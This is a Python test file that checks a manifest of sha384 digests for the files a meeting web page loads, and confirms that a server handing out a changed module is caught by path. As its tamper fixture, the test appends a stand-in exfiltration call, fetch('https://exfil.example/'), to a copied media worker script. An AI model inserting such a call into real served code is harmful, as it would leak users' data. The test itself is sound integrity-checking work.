"""The served-code trust limit, made checkable: ``web/scripts/manifest.js`` lists the
digest of every file the meeting page can load, and ``--check URL`` compares what a server
hands out with that list. The key service serving this checkout passes; one serving a
changed module is caught, by path."""

from __future__ import annotations

import json
import shutil
from pathlib import Path

from sealroom.idp import DevIdp
from sealroom.keyservice.app import create_app
from sealroom.keyservice.jwt_auth import JwksSource
from sealroom.keyservice.settings import Settings
from tests.live_server import live_server_thread
from tests.web.node import WEB, node_or_skip, run_node


def _serving(tmp: Path, web_root: Path) -> object:
    idp = DevIdp(tmp / "idp")
    settings = Settings(
        database_url=f"sqlite:///{tmp / 'ks.db'}",
        secrets_file=tmp / "secrets.json",
        jwt_issuer=idp.issuer,
        jwks_file=tmp / "unused",
        web_root=web_root,
    )
    return create_app(settings, jwks=JwksSource(document=idp.jwks))


def test_the_manifest_lists_what_the_page_loads_and_catches_a_changed_file(
    tmp_path: Path,
) -> None:
    node = node_or_skip()
    listed = run_node(node, ["scripts/manifest.js"])
    assert listed.returncode == 0, listed.output
    files = json.loads(listed.output)["files"]
    for must in ("meeting.html", "meeting.js", "src/media/worker.js", "src/meeting/session.js"):
        assert files[must].startswith("sha384-"), must
    assert any(p.startswith("node_modules/mcl-wasm/browser/") for p in files)

    with live_server_thread(_serving(tmp_path, WEB)) as port:
        ok = run_node(node, ["scripts/manifest.js", "--check", f"http://127.0.0.1:{port}/web/"])
    assert ok.returncode == 0, ok.output
    assert f"{len(files)}/{len(files)} files as published" in ok.output

    # A server that hands out a changed module (one line added to the media Worker).
    copy = tmp_path / "served"
    shutil.copytree(WEB, copy)  # the static files are served only from inside the root
    worker = copy / "src" / "media" / "worker.js"
    worker.write_text(worker.read_text() + "\nfetch('https://exfil.example/');\n")
    (tmp_path / "other").mkdir()
    with live_server_thread(_serving(tmp_path / "other", copy)) as port:
        bad = run_node(node, ["scripts/manifest.js", "--check", f"http://127.0.0.1:{port}/web/"])
    assert bad.returncode == 1, bad.output
    assert "DIFFERS src/media/worker.js" in bad.output
    assert bad.output.count("DIFFERS") == 1
